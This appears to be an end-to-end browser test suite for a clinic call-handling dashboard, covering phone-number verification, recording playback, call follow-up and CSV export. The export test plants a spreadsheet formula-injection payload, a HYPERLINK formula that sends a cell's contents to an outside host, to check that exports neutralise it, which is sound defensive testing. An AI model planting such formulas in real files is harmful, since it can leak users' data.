// What a front desk does with its calls and numbers, in a real browser: a
// number proven, a recording heard, a call followed up, a list taken along.
// Needs: chromium
import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { QUICK } from './lib/claim.js';
import { closing } from './lib/closing.js';
import { complaint, focused, openDesk, settled, t } from './lib/desk.js';
import { waitFor } from './lib/process.js';
import { report } from './lib/vapi.js';
import { A, B, LINE } from './lib/world.js';

const desk = await openDesk();
const { world } = desk;
after(() => desk.browser.close());
const button = (page, key, values) => page.getByRole('button',
	{ name: t(key, values), exact: true });
const says = (page, key, values) => page.getByText(t(key, values),
	{ exact: true }).first().waitFor();

// Proof of a number -----------------------------------------------------------

// What the person at this number was told.
const code = (number) => waitFor(async () => (await world.sim.phone(number))
	.heard.map(({ words = '' }) => words.includes('code is') &&
		words.replaceAll(/\D/g, '')).findLast(Boolean), { what: 'code' });

const ofNumber = async (number) => (await desk.ask(A, '/api/phone-numbers'))
	.data.find((one) => one.phone_number === number);

// A form for one more number, whose telephone is answered by a person.
async function adding(number) {
	world.numbers.add(number);
	await world.plan({ phone_speed: QUICK });
	await world.sim.phone(number, { keys: '5' });
	const page = await desk.sign(A, { at: '/numbers' });
	await page.getByRole('link', { name: t('number.add') }).click();
	return { page, field: page.getByLabel(t('number.number'),
		{ exact: true }) };
}

// An attempt holds a place for ten seconds, whatever became of it, and a clinic
// has four: wait until all of them are free again.
const placesFree = () => waitFor(async () => /^callward_threads_held 0$/m.test(
	(await world.metrics()).body), { what: 'places', timeoutMs: 30000 });

// Time passes for the attempts at this number.
const pass = (number, seconds) => world.cluster.query(
	'update callward.verifications set ' +
	'started_at = started_at - $2::interval, ' +
	'answered_at = answered_at - $2::interval, ' +
	'changed_at = changed_at - $2::interval where phone_number = $1',
	[number, `${seconds} seconds`]);

test('a number is added, proven by a code and by a call that comes back',
	async () => {
		const number = '+15556100001';
		const { page, field } = await adding(number);
		await field.fill('the front desk');
		await page.getByLabel(t('number.label')).fill('Second line');
		await button(page, 'number.add.save').click();
		assert.match(await complaint(field),
			/must be a phone number with its country code, such as \+1 555/);
		assert.equal(await field.inputValue(), 'the front desk');
		assert.equal(await page.getByLabel(t('number.label')).inputValue(),
			'Second line');
		// What is read by a rule is shown, and registered when one agrees.
		await field.fill('(555) 610-0001');
		await button(page, 'number.add.save').click();
		await page.getByText(t('number.confirm.text', {
			typed: '(555) 610-0001', number })).waitFor();
		await page.keyboard.press('Escape');
		assert.match(await complaint(field), /was read as \+15556100001/);
		assert.equal(await ofNumber(number), undefined);
		await button(page, 'number.add.save').click();
		await button(page, 'number.confirm').click();

		await page.getByRole('heading', { name: t('proof.title') }).waitFor();
		await button(page, 'proof.ring').click();
		const typed = page.getByLabel(t('proof.code'));
		await typed.waitFor();
		const spoken = await code(number);
		const wrong = String((Number(spoken) + 1) % 1e6).padStart(6, '0');
		for (const [text, sentence] of [
			['1234', t('proof.code.six')],
			[wrong, 'is not the code that was spoken; 4 tries left']]) {
			await typed.fill(text);
			await button(page, 'proof.code.check').click();
			assert.equal(await complaint(typed, sentence), sentence);
			assert.equal(await typed.inputValue(), text);
		}
		await typed.fill(spoken);
		await button(page, 'proof.code.check').click();

		await says(page, 'proof.forward.text');
		const { forwarding } = await ofNumber(number);
		assert.equal(forwarding.to, LINE);
		for (const network of ['landline', 'gsm'])
			for (const when of ['always', 'no_answer', 'busy']) {
				await page.getByText(t(`forward.network.${network}`),
					{ exact: true }).click();
				await page.getByText(t(`forward.when.${when}`),
					{ exact: true }).click();
				const { on, off } = forwarding.codes.find((one) =>
					one.network === network && one.when === when);
				for (const dial of [on, off])
					await page.locator('kbd').getByText(dial, { exact: true })
						.waitFor();
				assert.match(on, /^\*.*15559999999#?$/);
			}
		await world.sim.phone(number, { forwards: 'always', to: LINE,
			carrier: 'own' });
		await button(page, 'proof.loop').click();
		await says(page, 'proof.done');
		await page.getByText(t('proof.done.text',
			{ rule: t('rule.from') })).waitFor();
		assert.equal((await ofNumber(number)).status, 'active');
		await page.getByRole('link', { name: t('nav.numbers') }).first()
			.click();
		await page.getByRole('row').filter({ hasText: 'Second line' })
			.getByText(t('number.status.active')).waitFor();
		const { callSid } = await world.arrive({ from: number });
		assert.equal((await world.row(callSid)).user_id, A.user);
		await page.close();
	});

test('a call that does not come back as it should: what is to be changed',
	async () => {
		const number = '+15556100002';
		await placesFree();
		const { page, field } = await adding(number);
		await field.fill(number);
		await button(page, 'number.add.save').click();
		await button(page, 'proof.ring').click();
		await page.getByLabel(t('proof.code')).fill(await code(number));
		await button(page, 'proof.code.check').click();
		await says(page, 'proof.forward.text');
		const again = button(page, 'proof.loop.again');

		// Forwarding is off.
		await button(page, 'proof.loop').click();
		await says(page, 'proof.loop.busy');
		await pass(number, 60);
		await says(page, 'proof.reason.not_back');
		await page.getByText(t('proof.advice.not_back')).waitFor();
		const { on } = (await ofNumber(number)).forwarding.codes[0];
		await page.locator('kbd').getByText(on, { exact: true }).waitFor();

		// The carrier does not tell whose call it forwards.
		await world.sim.phone(number, { forwards: 'always', to: LINE,
			carrier: 'caller' });
		await again.click();
		await says(page, 'proof.reason.number_not_carried');
		await page.getByText(t('proof.advice.number_not_carried')).waitFor();
		assert.equal((await ofNumber(number)).status, 'pending');

		// It has been told to.
		await world.sim.phone(number, { forwards: 'always', to: LINE,
			carrier: 'diversion' });
		await placesFree();
		await again.click();
		await says(page, 'error.limit.title');
		await page.getByText('wait a minute').waitFor();
		await pass(number, 60);
		await placesFree();
		await again.click();
		await says(page, 'proof.done');
		assert.equal((await ofNumber(number)).match_rule, 'diversion');
		await page.close();
	});

// A recording -----------------------------------------------------------------

// A call of A's that was held, with all that is told of it.
async function held() {
	const row = await world.connected(A);
	await world.sim.connect(row.vapi_call_id, row.twilio_call_sid);
	return waitFor(async () => {
		const now = await desk.ask(A, `/api/calls/${row.id}`);
		return now.has_recording && now.status === 'completed' && now;
	}, { what: 'recording' });
}

test('a recording is played and sought in; the turns follow it', async () => {
	const call = await held();
	const turns = call.messages.filter(({ role }) =>
		['bot', 'user'].includes(role));
	const page = await desk.sign(A, { at: `/calls/${call.id}` });
	const audio = page.locator('audio');
	const now = () => audio.evaluate((one) => one.currentTime);
	const until = (seconds) => waitFor(async () => await now() >= seconds,
		{ what: `${seconds} s of the recording` });
	const pace = (rate) => audio.evaluate((one, to) => {
		one.playbackRate = to;
	}, rate);
	const current = page.locator('.turn[aria-current=true] .turn-text');
	const heard = (turn) => current.getByText(turn.message, { exact: true })
		.waitFor();

	await button(page, 'player.play').click();
	await button(page, 'player.pause').waitFor();
	const begun = await now();
	await until(begun + 0.5);
	const length = await audio.evaluate((one) => one.duration);
	assert.ok(Math.abs(length - call.duration_seconds) <= 1,
		`${length} of ${call.duration_seconds} s`);

	// From here on it stays where it is sought, however long one looks, until
	// it is told to go on.
	await pace(0);
	// To the middle by the line, with the pointer.
	const slider = page.getByRole('slider', { name: t('player.position') });
	const box = await slider.boundingBox();
	await slider.click({ position: { x: box.width / 2, y: box.height / 2 } });
	const middle = await now();
	assert.ok(Math.abs(middle / length - 0.5) < 0.1, `${middle}`);
	await heard(turns.findLast((turn) => turn.secondsFromStart <= middle));

	// To a turn by its words; the next one's follow by themselves.
	await page.getByLabel(t('player.speed')).selectOption('2');
	await page.waitForFunction(() =>
		document.querySelector('audio').playbackRate === 2);
	await pace(0);
	await page.locator('.turn').nth(2).click();
	await until(turns[2].secondsFromStart);
	assert.ok(await now() < turns[4].secondsFromStart);
	await heard(turns[2]);
	await audio.evaluate((one, at) => {
		one.currentTime = at - 0.2;
		one.playbackRate = 0.25;
	}, turns[3].secondsFromStart);
	await heard(turns[3]);
	await pace(0);

	// To a turn by its time; paused, it stays.
	await page.locator('.turn').nth(1).getByRole('button').click();
	await heard(turns[1]);
	await button(page, 'player.pause').click();
	await button(page, 'player.play').waitFor();
	assert.ok(await audio.evaluate((one) => one.paused));
	await page.locator('.turn').nth(0).getByRole('button').click();
	await button(page, 'player.pause').waitFor();
	await heard(turns[0]);
	const lines = await world.cluster.query('select actor from ' +
		'callward.audit_log where action = $1 and subject = $2',
	['play_recording', call.id]);
	assert.deepEqual(lines, [{ actor: A.user }]);
	await page.close();
});

test('a browser lets no sound begin by itself: it is ready, and says so',
	async () => {
		const call = await held();
		const page = await desk.sign(A);
		await page.evaluate(() => {
			const { play } = HTMLMediaElement.prototype;
			HTMLMediaElement.prototype.play = async () => {
				HTMLMediaElement.prototype.play = play;
				throw new DOMException('', 'NotAllowedError');
			};
		});
		await page.goto(`${world.publicUrl}/#/calls/${call.id}`);
		const told = page.locator('.player [role=status]');
		await told.waitFor({ state: 'attached' });
		assert.equal(await told.textContent(), '');
		await page.locator('.turn').nth(2).getByRole('button').click();
		await told.getByText(t('player.refused')).waitFor();
		await button(page, 'player.play').click();
		await button(page, 'player.pause').waitFor();
		assert.equal(await told.textContent(), '');
		const { secondsFromStart: at } = call.messages.filter(({ role }) =>
			['bot', 'user'].includes(role))[2];
		assert.ok(at > 0 && await page.locator('audio').evaluate((one) =>
			one.currentTime) >= at);
		await page.close();
	});

test('a recording that is no longer kept, and a call without one', async () => {
	const call = await held();
	const silent = await world.connected(A);
	await world.cluster.query('update public.calls set status = $2, ' +
		'ended_at = now() where id = $1', [silent.id, 'completed']);
	const page = await desk.sign(A, { at: `/calls/${silent.id}` });
	await says(page, 'call.recording.none');
	assert.equal(await button(page, 'player.play').count(), 0);
	// The provider has forgotten all its calls.
	await world.sim.reset();
	await world.plan({ seed: 8 });
	await page.goto(`${world.publicUrl}/#/calls/${call.id}`);
	await button(page, 'player.play').click();
	await says(page, 'player.gone');
	await page.getByText(t('player.gone.text')).waitFor();
	await page.getByText(call.messages.find(({ role }) => role === 'bot')
		.message, { exact: true }).first().waitFor();
	await page.close();
});

test('who called, and where the assistant put them through', async () => {
	const { id, vapi_call_id: vapiId, metadata } = await world.connected(A);
	const to = { type: 'number', number: '+15557770001' };
	await world.callback(report({ id: vapiId, metadata, analysis: {},
		destination: to, artifact: {
			recording: { stereoUrl: 'https://storage.example/s.wav' },
			transfers: [{ destination: to, status: 'no-answer' },
				{ destination: to, status: 'voicemail' }],
			structuredOutputs: { one: { name: 'Intake', result: {
				callerName: 'Xiomara Quint' } } } } }));
	const page = await desk.sign(A, { at: '/calls?outcome=transferred' });
	const row = page.locator('tr', { has: page.locator(`[data-id="${id}"]`) });
	await row.getByText('Xiomara Quint', { exact: true }).waitFor();
	await row.getByText(t('calls.outcome.missed'), { exact: true }).waitFor();
	assert.equal(await page.getByLabel(t('calls.outcome')).inputValue(),
		'transferred');
	await row.locator('a').first().click();
	await settled(page);
	const fact = (key) => page.locator('.facts > div', { has: page.locator(
		'dt', { hasText: new RegExp(`^${t(key)}$`) }) }).locator('dd');
	assert.equal(await fact('call.name').innerText(), 'Xiomara Quint');
	assert.equal(await fact('call.details.forwarded_to').innerText(),
		'+1 555 777 0001');
	assert.deepEqual(await fact('call.details.transfers').locator('li')
		.allInnerTexts(), [`+1 555 777 0001: ${t('transfer.no-answer')}`,
		`+1 555 777 0001: ${t('transfer.voicemail')}`]);
	await page.locator('.call-head').getByText(t('calls.outcome.missed'),
		{ exact: true }).waitFor();
	await button(page, 'player.play').waitFor();
	await page.close();
});

// Follow-up -------------------------------------------------------------------

const part = (page) => page.getByRole('region', { name: t('calls.follow_up') });
const fields = (page) => ({
	note: part(page).getByLabel(t('call.note')),
	by: part(page).getByLabel(t('call.by')),
	notes: part(page).getByLabel(t('call.notes'), { exact: true }),
	tag: part(page).getByLabel(t('call.tags'), { exact: true }),
});
const save = (page) => part(page).getByRole('button',
	{ name: t('action.save') });
const chosen = (page) => part(page).locator('input[type=radio]:checked')
	.inputValue();
const tagsOf = (page) => part(page).locator('.tag').evaluateAll((all) =>
	all.map((one) => one.firstChild.textContent));

async function seen(page) {
	const { note, by, notes } = fields(page);
	return [await chosen(page), await note.inputValue(),
		await by.inputValue(), await tagsOf(page), await notes.inputValue()];
}

test('a call is followed up; what fails to be saved is not lost', async () => {
	const [{ id }] = (await desk.ask(A,
		'/api/calls?follow_up=none&outcome=answered&limit=1')).data;
	const page = await desk.sign(A, { at: `/calls/${id}` });
	const { note, by, notes, tag } = fields(page);
	await part(page).getByText(t('follow_up.in_progress'), { exact: true })
		.click();
	await note.fill('Call back after 4');
	await by.fill('Jo');
	await notes.fill('Prefers mornings.\nHas a dog.');
	const tags = Array.from({ length: 21 }, (_, n) => `tag ${n}`);
	for (const one of tags) {
		await tag.fill(one);
		await tag.press('Enter');
	}
	const typed = (all) => ['in_progress', 'Call back after 4', 'Jo', all,
		'Prefers mornings.\nHas a dog.'];

	// One tag too many.
	await save(page).click();
	assert.match(await complaint(tag), /20/);
	assert.deepEqual(await seen(page), typed(tags));
	await button(page, 'form.tag.remove', { tag: 'tag 20' }).click();

	// The database is away for a while.
	await world.cluster.stop();
	await save(page).click();
	await part(page).getByText(t('error.server.title')).waitFor();
	assert.deepEqual(await seen(page), typed(tags.slice(0, 20)));
	await world.cluster.start();
	await waitFor(async () => 'timezone' in await desk.ask(A, '/api/me'),
		{ what: 'database of the dashboard' });
	await save(page).click();
	await says(page, 'form.saved');

	await page.reload();
	await settled(page);
	assert.deepEqual(await seen(page), typed(tags.slice(0, 20)));
	const row = page.locator(`.row-link[href="#/calls/${id}"]`);
	await page.goto(`${world.publicUrl}/#/calls`);
	await settled(page);
	await button(page, 'calls.filters').click();
	await page.getByLabel(t('calls.follow_up')).selectOption('done');
	await row.waitFor({ state: 'detached' });
	await page.getByLabel(t('calls.follow_up')).selectOption('in_progress');
	await row.waitFor();
	await page.getByLabel(t('calls.tag')).fill('tag 7');
	await page.waitForURL(/tag=tag\+7/);
	await settled(page);
	assert.deepEqual(await page.locator('.row-link').evaluateAll((all) =>
		all.map((one) => one.getAttribute('href'))), [`#/calls/${id}`]);
	await page.close();
});

test('what others change comes by itself and is told; what one types stays',
	async () => {
		const row = await world.connected(A);
		const page = await desk.sign(A, { at: `/calls/${row.id}` });
		const { note } = fields(page);
		await note.fill('Ask for the ');
		await desk.ask(A, `/api/calls/${row.id}`, { method: 'PATCH',
			body: { tags: ['urgent'], follow_up_note: 'of a colleague' } });
		await world.sim.connect(row.vapi_call_id, row.twilio_call_sid);
		// It asks every ten seconds.
		await page.getByText(t('status.completed'), { exact: true })
			.waitFor({ timeout: 30000 });
		await button(page, 'form.tag.remove', { tag: 'urgent' }).waitFor();
		await page.getByRole('alert').getByText('of a colleague').waitFor();
		assert.equal(await note.inputValue(), 'Ask for the ');
		assert.ok(await note.evaluate((one) =>
			one === document.activeElement));
		await note.press('End');
		await page.keyboard.type('invoice');
		await button(page, 'call.meanwhile.over').click();
		await says(page, 'form.saved');
		const call = await desk.ask(A, `/api/calls/${row.id}`);
		assert.equal(call.follow_up_note, 'Ask for the invoice');
		assert.deepEqual(call.tags, ['urgent']);
		await page.close();
	});

test('who leaves with something unsaved is asked', async () => {
	const [{ id }] = (await desk.ask(B, '/api/calls?limit=1')).data;
	const page = await desk.sign(B, { at: `/calls/${id}` });
	const { note } = fields(page);
	const leave = () => page.getByRole('navigation').getByRole('link',
		{ name: t('nav.intents') }).click();
	await note.click();
	await page.keyboard.type('half a sent');
	await leave();
	await page.getByRole('dialog', { name: t('leave.title') }).waitFor();
	await button(page, 'leave.no').click();
	assert.match(page.url(), new RegExp(`/calls/${id}$`));
	assert.equal(await note.inputValue(), 'half a sent');
	const asked = new Promise((resolve) => page.once('dialog', (dialog) => {
		resolve(dialog.type());
		dialog.dismiss();
	}));
	await page.evaluate(() => setTimeout(() => location.reload()));
	assert.equal(await asked, 'beforeunload');
	assert.equal(await note.inputValue(), 'half a sent');
	await leave();
	await button(page, 'leave.yes').click();
	await page.getByRole('heading', { name: t('nav.intents'), level: 1 })
		.waitFor();
	assert.equal((await desk.ask(B, `/api/calls/${id}`)).follow_up_note, null);
	await page.close();
});

// The list, taken along -------------------------------------------------------

test('a search of many years says how far it has come, and goes on',
	async () => {
		const far = { user: 'user_far' };
		const letters = 'a b c d e f g h i j k l m n o p q r s t u v w x y ' +
			'0 1 2 3 4 5 6 7 8 9 б в г д е ж з и к л м н о п р с т у ф х ' +
			'ц ч ш щ ъ ы';
		await world.cluster.query(`insert into public.calls (user_id,
			caller_phone_number, assistant_phone_number, status,
			transcript, created_at)
		select $1, '+1555' || lpad(i::text, 7, '0'), $2, 'completed',
			$3 || case when i in (30, 2000, 10600) then ' z' else '' end,
			'2026-01-01Z'::timestamptz - i * interval '1 day'
		from generate_series(1, 10700) i`, [far.user, LINE, letters]);
		await world.cluster.giveWords(far.user);
		const page = await desk.sign(far, { at:
			`/calls?q=${encodeURIComponent(`${letters} z`)}` });
		const go = button(page, 'further.go');
		await go.waitFor();
		assert.equal(await page.locator('.row-link').count(), 2);
		const told = page.locator('.further [role=status]');
		const [, day] = /^Searched back to (.+): 2 calls so far\. Older ones/
			.exec(await told.innerText());
		const at = Date.parse(day);
		assert.ok(at < Date.parse('2020-07-11') &&
			at > Date.parse('1996-12-24'), day);
		assert.equal(await page.getByText(t('calls.none.match')).count(), 0);

		// By the keyboard; one may stop it, and the button stays the same.
		let hold = true;
		await page.route('**/api/calls?*', (route) => hold || route.continue());
		await go.focus();
		await page.keyboard.press('Enter');
		await button(page, 'further.stop').waitFor();
		assert.equal(await told.innerText(), t('further.busy'));
		assert.equal(await focused(page), t('further.stop'));
		await page.keyboard.press('Enter');
		await go.waitFor();
		assert.equal(await page.locator('.row-link').count(), 2);
		hold = false;
		await page.keyboard.press('Enter');
		await page.locator('.row-link').nth(2).waitFor();
		await page.waitForFunction(() =>
			document.querySelector('.further') === null);
		await waitFor(async () => await focused(page) === t('calls.list'),
			{ what: 'the focus on the list' });
		assert.equal(await page.locator('.pager').count(), 0);
		await page.close();
	});

test('a search says how many calls are being made searchable', async () => {
	await world.cluster.query(`insert into callward.to_index
		(user_id, call_id, due_at) select $1, gen_random_uuid(),
		now() + interval '1 day' from generate_series(1, 201)`, [B.user]);
	const told = t('calls.indexing', { n: 201 });
	const page = await desk.sign(B, { at: '/calls?q=nobody+says+it' });
	await page.getByText(told).waitFor();
	await page.goto(`${world.publicUrl}/#/calls`);
	await page.getByText(told).waitFor({ state: 'detached' });
	await world.cluster.query('delete from callward.to_index ' +
		'where user_id = $1 and tries = 0 and due_at > now()', [B.user]);
	await page.close();
});

test('the end of a number finds its calls, and so does a national form',
	async () => {
		const [{ caller_phone_number: number }] =
			(await desk.ask(B, '/api/calls?limit=1')).data;
		const { data } = await desk.ask(B,
			`/api/calls?limit=100&number=${encodeURIComponent(number)}`);
		const page = await desk.sign(B, { at: '/calls' });
		const search = page.getByLabel(t('calls.search'));
		for (const typed of [number.slice(-4),
			`${number.slice(-7, -4)}-${number.slice(-4)}`,
			number.replace(/^.1(...)(...)/, '($1) $2-')]) {
			await search.fill(typed);
			await page.waitForURL(/[?&]q=/);
			await settled(page);
			assert.deepEqual((await page.locator('.row-link').evaluateAll(
				(links) => links.map((link) => link.dataset.id))).sort(),
			data.map(({ id }) => id).sort(), typed);
		}
		await page.close();
	});

test('an export holds what the filter shows, and no formula', async () => {
	const query = '/api/calls?outcome=missed&limit=100';
	const { data, next_cursor: more } = await desk.ask(B, query);
	assert.equal(more, null);
	const all = (await desk.ask(B, '/api/calls?limit=100')).data;
	assert.ok(data.length > 1 && data.length < all.length);
	const formula = '=HYPERLINK("http://example.org?"&A1,"click")';
	await desk.ask(B, `/api/calls/${data[0].id}`, { method: 'PATCH',
		body: { notes: formula, tags: ['=1+1'] } });
	const page = await desk.sign(B, { at: '/calls' });
	await button(page, 'calls.filters').click();
	await page.getByLabel(t('calls.outcome')).selectOption('missed');
	await page.waitForURL(/outcome=missed/);
	await settled(page);
	const { name, text: csv } = await desk.browser.download(page, () =>
		button(page, 'calls.csv').click());
	assert.equal(name, 'calls.csv');
	await says(page, 'calls.csv.done');
	const ids = [...csv.matchAll(/([0-9a-f-]{36})\r$/gm)].map(([, id]) => id);
	assert.ok(csv.startsWith('\ufeff"Time (') || csv.startsWith('"Time ('), csv);
	assert.match(csv, /,"\+1 \d{3} \d{3} \d{4}",/);
	assert.deepEqual(ids.sort(), data.map(({ id }) => id).sort());
	assert.ok(csv.includes(`"'${formula.replaceAll('"', '""')}"`), csv);
	assert.doesNotMatch(csv, /(^|[,"])=/m);
	await page.close();
});

test('no policy was violated and no error went uncaught', async () => {
	assert.deepEqual(await desk.browser.trouble(), []);
});

closing(world);
